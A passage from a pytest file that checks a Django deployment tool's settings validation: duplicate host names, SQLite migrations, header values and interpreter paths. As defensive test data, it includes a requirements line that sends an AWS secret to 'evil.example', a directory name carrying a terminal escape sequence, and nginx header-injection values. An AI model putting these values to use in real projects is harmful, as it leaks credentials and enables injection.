            programs={"beat": {"command": BEAT, "hosts": "once"}},
        )
    )
    told = source_problems(cast(Settings, noting))
    assert {problem.setting for problem in told} == {"env", "programs"}
    assert noting.read == {*READ, "env", "env.PYTHONPATH"}


def test_a_terminal_obeys_nothing_that_the_source_is_named(project: Path) -> None:
    (project / "\x1b]0;x\x07\udcff/site").mkdir(parents=True)
    (project / "\x1b]0;x\x07\udcff/site/wsgi.py").touch()
    (line,) = refusal({"web1": {"source": str(project), "wsgi": "site.wsgi"}})
    assert "to have Python look in ?]0;x??, set" in line


def test_the_source_has_no_variable_that_no_setting_gives_it(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("AWS_SECRET_ACCESS_KEY", "TOKEN"):
        monkeypatch.setenv(name, "a secret")
    (project / "requirements.txt").write_text("tiny\n-r more.txt\n")
    (project / "more.txt").write_text(
        "# An index.\n--index-url https://${TOKEN}:${PASS}@pypi.example\n"
        "--find-links https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n"
    )
    data = {"source": str(project), "build_env": ["TOKEN"], "env": {"PASS": "of the site"}}
    assert refusal({"web1": data}) == [
        'web1: requirements = "requirements.txt": more.txt:3 asks for ${AWS_SECRET_ACCESS_KEY}, '
        'which no setting gives it; set env["AWS_SECRET_ACCESS_KEY"], or add '
        '"AWS_SECRET_ACCESS_KEY" to build_env'
    ]
    data["build_env"] = ["TOKEN", "AWS_SECRET_ACCESS_KEY"]
    load_all({"web1": data})


def test_hosts_that_differ_in_it_do_not_share_it(project: Path) -> None:
    data = {"source": str(project), "files": {"media/logo.svg": "<svg/>"}, "migrate": "each"}
    hosts = {"web1": data, "web2": {**data, "media_root": "media", "ssh_hostname": "x"}}
    (line,) = [line for line in refusal(hosts) if "outlives" in line]
    assert line.startswith('web2: files["media/logo.svg"]: is in media, which outlives releases')


def test_hosts_share_it_whatever_their_secrets_are() -> None:
    one, other = loaded(env={"A": "1"}), loaded(env={"A": "2"})
    assert what_is_read(one) == what_is_read(other) != what_is_read(loaded(env={"B": "1"}))
    one, other = loaded(env={"PYTHONPATH": "1"}), loaded(env={"PYTHONPATH": "2"})
    assert what_is_read(one) != what_is_read(other)


def test_a_wsgi_package_is_found(project: Path) -> None:
    (project / "fooproject/asgi").mkdir()
    (project / "fooproject/asgi/__init__.py").write_text("")
    load_all({"web1": {"source": str(project), "wsgi": "fooproject.asgi:app"}})


@pytest.mark.parametrize(
    ("first", "second", "same"),
    [
        ({"ssh_hostname": "example.com"}, {"ssh_hostname": "Example.com."}, True),
        ({"ssh_hostname": "web2"}, {}, True),
        ({"ssh_hostname": "2001:DB8::1"}, {"ssh_hostname": "2001:db8:0::1"}, True),
        ({"ssh_hostname": "a.se", "ssh_port": 22}, {"ssh_hostname": "a.se"}, True),
        ({"ssh_hostname": "a.se", "ssh_port": 2222}, {"ssh_hostname": "a.se"}, False),
        ({}, {}, False),
    ],
)
def test_one_machine_under_two_names_is_refused(
    project: Path, first: dict[str, object], second: dict[str, object], same: bool
) -> None:
    source: dict[str, object] = {"source": str(project)}
    hosts = {"web1": {**source, **first}, "web2": {**source, **second}, "@local": source}
    if not same:
        load_all(hosts)
        return
    (line,) = refusal(hosts)
    assert line.startswith("web1, web2: ssh_hostname: ")
    assert line.endswith(" port 22 is one machine; expected it under one name")
    hosts["web1"] |= {"project": "blog", "wsgi": "fooproject.wsgi"}
    hosts["web2"] |= {"project": "shop", "wsgi": "fooproject.wsgi"}
    (line,) = [line for line in refusal(hosts) if "ssh_hostname" in line]
    assert line.endswith("under one name, and an inventory of its own for each project: blog, shop")


def test_one_migration_for_several_sqlite_databases_is_refused(project: Path) -> None:
    data = {"source": str(project), "env": {"DATABASE_URL": "sqlite:////data/db.sqlite3"}}
    load_all({"web1": data})
    load_all({host: {**data, "migrate": "each"} for host in ("web1", "web2")})
    (line,) = refusal({"web1": data, "web2": data})
    assert line == (
        'all hosts: migrate = "once": with SQLite (env["DATABASE_URL"]) every host has a database '
        'of its own; set migrate = "each"'
    )


def test_a_function_for_a_secret_is_called_once_for_all_hosts(project: Path) -> None:
    asked: list[int] = []

    def ask() -> str:
        asked.append(1)
        return "secret"

    load_all({host: {"source": str(project), "env": {"A": ask}} for host in ("web1", "web2")})
    assert len(asked) == 1


# The documentation


def test_every_setting_is_in_the_table() -> None:
    rows = table().splitlines()
    assert len(rows) == 2 + len(Settings.model_fields)
    assert rows[3] == (
        "| `source` | required | the Django project on the controller: a git repository's path or "
        "URL, or a plain folder |"
    )
    assert any(row.startswith('| `wsgi` | `"PROJECT.wsgi"` |') for row in rows)


def test_the_page_has_the_table_of_today() -> None:
    page = (ROOT / "docs" / "settings.md").read_text(encoding="utf-8")
    assert with_table(page) == page, "docs/settings.md is stale: run make docs"


def test_the_table_is_renewed_in_place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    page = tmp_path / "docs" / "settings.md"
    page.parent.mkdir()
    page.write_text("a\n<!-- settings -->\nold\n<!-- /settings -->\nb\n")
    monkeypatch.chdir(tmp_path)
    runpy.run_module("stack.settings", run_name="__main__")
    expected = f"a\n<!-- settings -->\n{table()}\n<!-- /settings -->\nb\n"
    assert page.read_text(encoding="utf-8") == expected


def test_a_host_that_runs_no_app_needs_no_source() -> None:
    hosts = {
        "web1": {"source": "tests/project", "address": "10.0.0.1"},
        "lb1": {"address": "10.0.0.2"},
    }
    settings = load_all(hosts, {"web1": ["app"], "lb1": ["lb"]})
    assert settings["lb1"].address == "10.0.0.2"
    with pytest.raises(SettingsError, match="web1: source: is missing"):
        load_all({**hosts, "web1": {"address": "10.0.0.1"}}, {"web1": ["app"], "lb1": ["lb"]})


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            {"media_root": "media", "media_url": "/static/"},
            'media_url = "/static/": overlaps static_url, "/static/"; expected another path',
        ),
        (
            {"media_root": "data", "shared": ["data/keys"]},
            'media_root = "data": holds data/keys of shared, which everybody could read',
        ),
    ],
)
def test_uploads_are_told_from_all_else_that_is_served_or_kept(
    data: dict[str, object], expected: str
) -> None:
    source = {"source": str(ROOT / "tests" / "project")}
    with pytest.raises(SettingsError) as caught:
        load_all({"web1": {**source, **data}})
    assert [problem.text for problem in caught.value.problems] == [expected]


@pytest.mark.parametrize("value", ['"', "$host", "a\nb", "\\", "é"])
def test_a_header_that_nginx_would_read_as_more_is_refused(value: str) -> None:
    (line,) = problems(response_headers={"X-A": value})
    assert line.endswith('expected text without " \\ and $')


@pytest.mark.parametrize(
    "path", ["/home/shop/venv/bin/python", "/home//shop/python", "//home/./shop/python"]
)
def test_an_interpreter_in_the_home_is_refused_however_it_is_written(path: str) -> None:
    data = {
        "source": str(ROOT / "tests/project"),
        "wsgi": "fooproject.wsgi",
        "project": "shop",
        "python": path,
    }
    with pytest.raises(SettingsError, match="lies in the home, where the project's user can"):
        load_all({"web1": data})
    beside = load_all({"web1": {**data, "python": "/home/shop2/python"}})
    assert beside["web1"].python == "/home/shop2/python"
